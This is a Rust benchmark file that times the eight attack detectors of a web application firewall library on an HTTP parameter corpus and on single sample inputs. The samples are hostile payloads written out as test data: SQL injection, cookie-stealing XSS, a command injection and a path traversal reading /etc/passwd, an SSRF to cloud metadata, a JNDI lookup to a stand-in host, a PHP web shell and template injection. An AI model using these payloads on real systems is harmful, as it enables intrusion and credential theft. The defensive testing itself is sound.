//! Per-value cost of the eight detectors together on the httpparams corpus
//! (31,067 values), and per detector on attack-shaped and benign values.

use criterion::{criterion_group, criterion_main, BatchSize, Criterion, Throughput};
use wafio_detect::{DetectorKind, DetectorSet};

fn all_eight(c: &mut Criterion) {
    let values = wafio_benches::httpparams_values();
    let set = DetectorSet::default();
    let mut g = c.benchmark_group("detect");
    g.throughput(Throughput::Elements(values.len() as u64));
    g.bench_function("all_eight/httpparams_31067_values", |b| {
        b.iter(|| {
            let mut n = 0usize;
            for v in &values {
                n += set.scan(v).len();
            }
            n
        })
    });
    g.finish();
}

fn per_detector(c: &mut Criterion) {
    let benign = b"calle dinamarca 14, 3b".to_vec();
    let attacks: [(DetectorKind, &[u8]); 8] = [
        (
            DetectorKind::Sqli,
            b"1' union select null,version(),user()-- -",
        ),
        (
            DetectorKind::Xss,
            b"<img src=x onerror=alert(document.cookie)>",
        ),
        (DetectorKind::Cmdi, b"127.0.0.1; cat /etc/passwd"),
        (DetectorKind::Lfi, b"../../../../etc/passwd"),
        (
            DetectorKind::Ssrf,
            b"http://169.254.169.254/latest/meta-data/",
        ),
        (DetectorKind::Java, b"${${lower:j}ndi:ldap://x.example/a}"),
        (DetectorKind::Php, b"<?php system($_GET['c']); ?>"),
        (
            DetectorKind::Python,
            b"{{''.__class__.__mro__[1].__subclasses__()}}",
        ),
    ];
    let mut g = c.benchmark_group("detector");
    for (kind, attack) in attacks {
        let set = DetectorSet::builder().only(&[kind]).build();
        g.bench_function(format!("{kind}/attack"), |b| {
            b.iter_batched(|| attack, |v| set.scan(v), BatchSize::SmallInput)
        });
        g.bench_function(format!("{kind}/benign"), |b| {
            b.iter_batched(|| benign.as_slice(), |v| set.scan(v), BatchSize::SmallInput)
        });
    }
    g.finish();
}

criterion_group!(benches, all_eight, per_detector);
criterion_main!(benches);
